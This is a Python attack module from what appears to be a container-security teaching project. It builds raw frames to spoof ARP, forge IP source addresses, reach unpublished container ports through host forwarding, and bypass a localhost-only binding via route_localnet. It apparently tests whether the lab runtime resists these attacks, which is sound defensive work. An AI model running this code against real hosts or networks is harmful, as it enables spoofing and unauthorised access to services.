"""The attack of chapter 13: who has a cable sends what he likes, and who knows the way may come.

Containers are neighbours now, and a bridge believes every frame. The attacker has root's power over
its own adapter (CAP_NET_RAW, which docker gives). And where the host forwards, whoever stands
beside it can call a container that has told nobody that it serves.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
from collections.abc import Iterator
from pathlib import Path

from chapters import patience
from chapters.ch10_seccomp.attack import NUMBERS, Program
from chapters.ch12_network.attack import LOCALHOST, inet, listener, wait
from chapters.ground import Ground
from minicontainer.kernel import flags, loopback, syscalls
from minicontainer.network import addresses, bridge, links

# <asm/unistd.h>: x86-64, aarch64
NUMBERS |= {"sendto": (44, 206)}
EVERYBODY, ARP, IPV4 = b"\xff" * 6, 0x0806, 0x0800
PORT = 6000

# What the host and the machine beside it are on.
HOST, MACHINE = "192.0.2.1", "192.0.2.2"
LAN = {
    "bridge": "lan",
    "internal": False,
    "mtu": 1500,
    "subnets": [{"Subnet": "192.0.2.0/24", "Gateway": HOST}],
}


def claim_an_address(ground: Ground) -> bool:
    """tell the host that a neighbour's address is ours, so that what is for it comes to us"""
    place = Place(ground)
    # "Who has the gateway's address? Tell the neighbour, at my hardware address." (RFC 826)
    claim = struct.pack(
        ">HHBBH6s4s6s4s", 1, IPV4, 6, 4, 1, place.mac, place.neighbour, bytes(6), place.gateway
    )
    with place.sends(EVERYBODY, ARP, claim) as service:
        service.recv(100)
        rows = [row.split() for row in Path("/proc/net/arp").read_text().splitlines()]
        return [socket.inet_ntoa(place.neighbour), text(place.mac)] in [
            [row[0], row[3]] for row in rows
        ]


def send_in_anothers_name(ground: Ground) -> bool:
    """send a service of the host an order in a neighbour's name"""
    place = Place(ground)
    order = datagram(place.neighbour, place.gateway)
    with place.sends(hardware(place.gateway), IPV4, order) as service:
        return service.recvfrom(100)[1][0] == socket.inet_ntoa(place.neighbour)


def call_what_is_not_published(ground: Ground) -> bool:
    """from a network beside it, call a container at a port that it never published"""
    place = Place(ground)
    listener(inet("0.0.0.0", PORT)).write(ground.rootfs / "bin" / "server")
    with beside_the_host() as caller, ground.running("server"):
        try:
            caller.connect((socket.inet_ntoa(place.address), PORT))
            return True
        except TimeoutError:
            return False


def call_past_the_binding(ground: Ground) -> bool:
    """from a machine beside the host, call what listens on 127.0.0.1 alone"""
    idle = Program()
    wait(idle)
    idle.write(ground.rootfs / "bin" / "idle")
    kind = socket.AF_PACKET, socket.SOCK_DGRAM
    udp = socket.AF_INET, socket.SOCK_DGRAM
    with (
        beside_the_host(*kind) as caller,
        switched_on("/proc/sys/net/ipv4/conf/lan/route_localnet"),
        ground.running("idle"),
        socket.socket(*udp) as private,
        socket.socket(*udp) as public,
    ):
        private.bind((LOCALHOST, PORT))
        public.bind((HOST, PORT))
        public.settimeout(patience.seconds(10))
        # No router would bring a packet for 127.0.0.1. A neighbour needs none.
        there = hardware(socket.inet_aton(HOST))
        for address in (LOCALHOST, HOST):
            packet = datagram(socket.inet_aton(MACHINE), socket.inet_aton(address))
            caller.sendto(packet, ("eth0", IPV4, 0, 0, there))
        # What was sent last is there, so what was sent first is, or never will be.
        public.recv(100)
        try:
            private.recv(100, socket.MSG_DONTWAIT)
            return True
        except BlockingIOError:
            return False


class Place:
    """Where the attacker is: what it sees of its adapter. Addresses are packed."""

    def __init__(self, ground: Ground) -> None:
        self.ground = ground
        told = ground.run(
            "cd /sys/class/net/eth0; cat address ifindex; grep -w 00000000 /proc/net/route"
        )
        mac, index, _, _, gateway, *_ = told.split()
        self.mac = bytes.fromhex(mac.replace(":", ""))
        self.index = int(index)
        self.address = self.mac[2:]
        self.gateway = struct.pack("=I", int(gateway, 16))
        self.neighbour = self.gateway[:3] + b"\xc8"

    @contextlib.contextmanager
    def sends(self, to: bytes, kind: int, content: bytes) -> Iterator[socket.socket]:
        """Have the container send a frame of its own making, and then an honest datagram; a service
        of the host that gets the datagram, and so knows when the frame must have arrived."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as service:
            service.settimeout(patience.seconds(10))
            service.bind(("0.0.0.0", PORT))
            program = Program()
            frame = to + self.mac + kind.to_bytes(2, "big") + content
            # struct sockaddr_ll: packet(7)
            link = struct.pack("=HHiHBB8s", socket.AF_PACKET, 0, self.index, 0, 0, 6, to)
            honest = inet(socket.inet_ntoa(self.gateway), PORT)
            program.call("socket", socket.AF_PACKET, socket.SOCK_RAW, 0)
            program.call(
                "sendto", 3, program.data(frame), len(frame), 0, program.data(link), len(link)
            )
            program.call("socket", socket.AF_INET, socket.SOCK_DGRAM, 0)
            program.call("sendto", 4, program.data(b"x"), 1, 0, program.data(honest), len(honest))
            wait(program)
            program.write(self.ground.rootfs / "bin" / "sender")
            with self.ground.running("sender"):
                try:
                    yield service
                except TimeoutError:
                    raise RuntimeError("the attack could not be made: nothing arrives") from None


@contextlib.contextmanager
def beside_the_host(
    family: int = socket.AF_INET, kind: int = socket.SOCK_STREAM
) -> Iterator[socket.socket]:
    """A socket of another machine, whose router the host is; it forwards, as with any other engine,
    virtual machine or VPN on it."""
    here = os.open("/proc/self/ns/net", os.O_RDONLY | os.O_CLOEXEC)
    syscalls.unshare(flags.CLONE_NEWNET)
    loopback.bring_up()
    there = os.open("/proc/self/ns/net", os.O_RDONLY | os.O_CLOEXEC)
    caller, inner = socket.socket(family, kind), links.Links()
    syscalls.setns(here, flags.CLONE_NEWNET)
    host = links.Links()
    try:
        bridge.create(host, LAN)
        bridge.plug(host, inner, there, bridge.endpoint(LAN, "lan-2", 2))
        caller.settimeout(patience.seconds(2))
        with switched_on("/proc/sys/net/ipv4/ip_forward"):
            yield caller
    finally:
        host.delete("lan-2")
        host.delete("lan")
        for each in (caller, inner, host):
            each.close()
        os.close(here)
        os.close(there)


@contextlib.contextmanager
def switched_on(path: str) -> Iterator[None]:
    """One of the host's switches is on meanwhile."""
    switch = Path(path)
    before = switch.read_text()
    switch.write_text("1")
    try:
        yield
    finally:
        switch.write_text(before)


def datagram(source: bytes, target: bytes) -> bytes:
    """An IP packet with a UDP datagram that has nothing in it (RFC 791, RFC 768), from one packed
    address to another."""
    header = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, socket.IPPROTO_UDP, 0, source, target
    )  # fmt: skip
    return header[:10] + checksum(header) + header[12:] + struct.pack(">HHHH", PORT, PORT, 8, 0)


def hardware(address: bytes) -> bytes:
    """The hardware address that the host answers for this IP address with."""
    return bytes.fromhex(addresses.hardware(socket.inet_ntoa(address)).replace(":", ""))


def checksum(header: bytes) -> bytes:
    """Of an IP header (RFC 791): its words' sum, with the carries added, inverted."""
    total = sum(struct.unpack(f">{len(header) // 2}H", header))
    return (0xFFFF - (total & 0xFFFF) - (total >> 16)).to_bytes(2, "big")


def text(mac: bytes) -> str:
    """A hardware address as people write it."""
    return ":".join(f"{octet:02x}" for octet in mac)


ATTACKS = (
    claim_an_address,
    send_in_anothers_name,
    call_what_is_not_published,
    call_past_the_binding,
)
